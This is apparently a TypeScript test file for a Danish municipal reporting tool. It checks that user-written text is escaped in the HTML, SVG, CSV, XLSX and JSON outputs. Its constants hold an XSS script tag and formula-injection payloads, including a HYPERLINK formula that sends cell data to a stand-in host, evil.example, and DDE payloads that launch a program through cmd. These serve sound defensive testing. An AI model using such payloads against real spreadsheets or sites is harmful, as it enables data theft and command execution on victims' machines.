import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  buildMemoContext,
  buildRespondentContext,
  buildTable,
  buildTableView,
  loadRoundTemplates,
  renderChart,
  reportOf,
  roundFacts,
  tableToCsv,
  tableToJson,
  tableToXlsx,
  type CompiledReport,
  type DocumentSpec,
  type PublishedTable,
  type ReportRound,
  type TemplateSet,
} from '../../reports/index.ts';
import { SCHEMAS_DIR, testRegistry } from '../helpers/test-registry.ts';
import { submitted } from '../fixtures/reports/ten-municipalities.ts';
import { parseDanishCsv } from './parse-danish-csv.ts';

const SCRIPT = '<script>alert("x")</script>';
const PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1'];
const ALL = [SCRIPT, ...PAYLOADS];
/** Longer than the 300 characters the memo shortens a reason to, so the cut text is escaped too. */
const LONG = `${SCRIPT} `.repeat(20).trim();
const FORMULA_START = /^[=+\-@\t\r]/;
const AT = '2024-06-01T00:00:00Z';

/** Handlebars' escaping, written out: what a template must make of a text. */
const escaped = (text: string) =>
  text.replace(/[&<>"'`=]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#x27;', '`': '&#x60;', '=': '&#x3D;' })[c]!);

describe('user-written text comes out harmless', () => {
  let report: CompiledReport;
  let round: ReportRound;
  let table: PublishedTable;
  let set: TemplateSet;
  let facts: ReturnType<typeof roundFacts>;
  let memo: string;
  const doc = (kind: DocumentSpec['kind']): DocumentSpec => Object.values(report.spec.documents ?? {}).find((d) => d.kind === kind)!;
  /** København's unit rows of the table, in the order reported (its total row left out). */
  const mine = <T>(rows: T[], code: (r: T) => unknown, kind: (r: T) => unknown) => rows.filter((r) => code(r) === '0101' && kind(r) !== 'Kommunen i alt');

  beforeAll(async () => {
    const registry = await testRegistry();
    round = registry.round('2024')!;
    const form = registry.form('2024', 'maaltal')!;
    report = reportOf(registry.round('2024')!).report!;
    facts = roundFacts(round, 'maaltal');
    const unit = (navn: string, text: string) => ({
      navn,
      niveau1: { kvinder: 0, maend: 1 },
      niveau2: { kvinder: 1, maend: 4 },
      tidligereMaal: { status: 'ikkeOpfyldt', begrundelse: text },
      maaltal: { fastsat: false, begrundelse: text },
      politik: { findes: true, indhold: text, handlinger: text },
    });
    // Split municipalities can report many units: one per payload, the name carrying it too.
    const reports = submitted(form, {
      '0101': { enheder: ALL.map((p) => unit(p, p)) },
      '0147': { enheder: [{ ...unit('Frederiksberg Kommune', 'x'), maaltal: { fastsat: false, begrundelse: LONG } }] },
    });
    const tabel = doc('tabel');
    table = buildTable({ report, round, dataset: tabel.dataset!, filters: tabel.filters ?? [], reports });
    set = (await loadRoundTemplates(SCHEMAS_DIR, round)).set!;
    memo = set.render(doc('notat').template!, await buildMemoContext({ report, round, reports, generatedAt: AT }));
  });

  it('escapes markup in the memo, also where it shortens a text', () => {
    expect(memo).not.toContain('<script');
    // The memo lists each unit's reason for setting no target, under the unit's name.
    for (const p of ALL) expect(memo).toContain(`<li><strong>København, ${escaped(p)}:</strong> ${escaped(p)}</li>`);
    expect(memo).toContain(`<li><strong>Frederiksberg, Frederiksberg Kommune:</strong> ${escaped(SCRIPT)} ${escaped(SCRIPT)}`);
    expect(memo).toMatch(/&lt;\/script&gt;…<\/li>/);
  });

  it('escapes markup in the table page', () => {
    const html = set.render(doc('tabel').template!, buildTableView(table, round, {}, { generatedAt: AT }));
    expect(html).not.toContain('<script');
    // Name, reasons and policy texts: each payload in five cells of its own row.
    for (const p of ALL) expect(html.split(`<td class="tekst">${escaped(p)}</td>`)).toHaveLength(6);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('&#x3D;HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;Klik&quot;)');
  });

  it('escapes markup in the respondent page, the round\'s own and the shared one', () => {
    const context = buildRespondentContext(report, table, round, '0101', { generatedAt: AT })!;
    expect(context.raekker).toHaveLength(ALL.length + 1);
    const own = set.render(doc('respondent').template!, context);
    const shared = set.render('respondent', context);
    for (const html of [own, shared]) {
      expect(html).not.toContain('<script');
      for (const p of ALL) expect(html).toContain(escaped(p));
    }
    // The unit's name heads its section; the policy's content is printed as written.
    for (const p of ALL) expect(own).toContain(`>${escaped(p)}</h2>`);
    for (const p of ALL) expect(own).toContain(`<dt>Politikkens indhold</dt><dd>${escaped(p)}</dd>`);
  });

  it('escapes markup in chart labels', async () => {
    const svg = await renderChart({
      spec: { mark: 'bar', encoding: { x: { field: 'navn', type: 'nominal' }, y: { field: 'v', type: 'quantitative' } } },
      values: [{ navn: SCRIPT, v: 10 }],
      title: `${SCRIPT} titel`,
      description: SCRIPT,
    });
    expect(svg).not.toContain('<script');
    expect(svg).toContain('&lt;script&gt;');
  });

  it('neutralises formulas in the CSV and keeps numbers as numbers', () => {
    const rows = parseDanishCsv(tableToCsv(table).toString('utf8'));
    const header = rows[0]!;
    const col = (name: string) => {
      expect(header, name).toContain(name);
      return header.indexOf(name);
    };
    const units = mine(rows, (r) => r[0], (r) => r[col('Række')]);
    expect(units).toHaveLength(ALL.length);
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(FORMULA_START);
    for (const [i, p] of ALL.entries()) {
      const r = units[i]!;
      const expected = FORMULA_START.test(p) ? `'${p}` : p;
      expect(r[col('Enhedens navn')]).toBe(expected);
      expect(r[col('Politikkens indhold')]).toBe(expected);
      expect(r[col('Konkrete handlinger')]).toBe(expected);
      expect(r[col('Begrundelse for intet måltal')]).toBe(expected);
      expect(r[col('Begrundelse for at tidligere måltal ikke er nået')]).toBe(expected);
      // One woman of six people.
      expect(r[col('Andel kvinder (procent)')]).toBe('16,7');
      expect(r[col('Niveau 2: mænd')]).toBe('4');
    }
  });

  it('neutralises formulas in the XLSX and keeps numbers as numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await tableToXlsx(table, facts)) as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Indberetninger')!;
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const col = (name: string) => {
      expect(header, name).toContain(name);
      return header.indexOf(name);
    };
    let seen = 0;
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA_START);
      });
      if (row.getCell(1).value !== '0101' || row.getCell(col('Række')).value === 'Kommunen i alt') return;
      const p = ALL[seen++]!;
      const expected = FORMULA_START.test(p) ? `'${p}` : p;
      expect(row.getCell(col('Enhedens navn')).value).toBe(expected);
      expect(row.getCell(col('Politikkens indhold')).value).toBe(expected);
      expect(row.getCell(col('Begrundelse for intet måltal')).value).toBe(expected);
      expect(row.getCell(col('Andel kvinder (procent)')).type).toBe(ExcelJS.ValueType.Number);
      expect(row.getCell(col('Andel kvinder (procent)')).value).toBe(16.7);
      expect(row.getCell(col('Niveau 2: mænd')).value).toBe(4);
    });
    expect(seen).toBe(ALL.length);
  });

  it('keeps the exact text in the JSON, which no spreadsheet evaluates', () => {
    const json = JSON.parse(tableToJson(table, facts, AT)) as { raekker: Array<Record<string, unknown>> };
    const units = mine(json.raekker, (r) => r.kommunekode, (r) => r.raekke);
    for (const key of ['enhed', 'politikIndhold', 'politikHandlinger', 'maaltalBegrundelse', 'tidligereMaalBegrundelse']) {
      expect(units.map((r) => r[key]), key).toEqual(ALL);
    }
    expect(units.map((r) => r.andelKvinder)).toEqual(ALL.map(() => 16.7));
  });
});
